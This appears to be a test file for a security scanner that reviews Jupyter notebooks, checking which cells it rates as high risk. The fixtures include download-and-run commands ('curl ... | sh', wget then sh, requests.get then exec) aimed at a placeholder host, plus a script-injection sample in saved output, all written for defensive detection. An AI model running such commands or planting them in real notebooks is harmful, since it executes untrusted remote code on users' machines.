"""What a reader is told of notebooks."""

import json
from typing import Any

from core.findings import FileState, Level
from tests.core.scanning.examining import levels, look_at


def notebook(*cells: str, outputs: list[dict[str, Any]] | None = None) -> str:
    return json.dumps(
        {
            "cells": [
                {"cell_type": "code", "source": cell.splitlines(keepends=True), "outputs": outputs or []}
                for cell in cells
            ],
            "metadata": {},
            "nbformat": 4,
        }
    )


def test_shell_commands_between_python_are_judged_with_their_cell() -> None:
    found = look_at("a.ipynb", notebook("import torch", "x = 1\n!curl https://x.invalid/a | sh\n"))
    assert levels(found)["code-download-and-run"] is Level.HIGH
    finding = next(one for one in found.findings.values() if one.rule.endswith("download-and-run"))
    assert finding.evidence[0].value.startswith("[2]")
    assert finding.evidence[0].line == 2


def test_what_one_cell_fetches_another_runs() -> None:
    found = levels(
        look_at("a.ipynb", notebook("import requests", "t = requests.get('https://x.invalid').text", "exec(t)"))
    )
    assert found["code-download-and-run"] is Level.HIGH


def test_a_cell_for_a_shell_is_read_as_one() -> None:
    found = levels(look_at("a.ipynb", notebook("%%bash\nwget https://x.invalid/x -O /tmp/tool\nsh /tmp/tool\n")))
    assert found["code-download-and-run"] is Level.HIGH


def test_magics_help_and_installs_are_ordinary() -> None:
    cells = ("%matplotlib inline\n!pip install -q torch\nimport torch\nx = !ls\ntorch?\n", "%%time\nx = 1\nprint(x)\n")
    inspection = look_at("a.ipynb", notebook(*cells))
    assert set(levels(inspection).values()) == {Level.NOTE}
    assert inspection.state is FileState.CHECKED


def test_a_script_among_the_saved_results_is_told() -> None:
    page = {"data": {"text/html": ["<script>alert(1)</script>"]}}
    assert "code-notebook-page" in levels(look_at("a.ipynb", notebook("x", outputs=[page])))
    chart = {"data": {"text/html": ["<script>Plotly.newPlot('x')</script>"]}}
    assert "code-notebook-page" not in levels(look_at("a.ipynb", notebook("x", outputs=[chart])))


def test_a_notebook_that_is_none_is_said_to_be_unread() -> None:
    inspection = look_at("a.ipynb", '{"cells": 7, "nbformat": 4, "cell_type": "code"}')
    assert inspection.state is not FileState.CHECKED
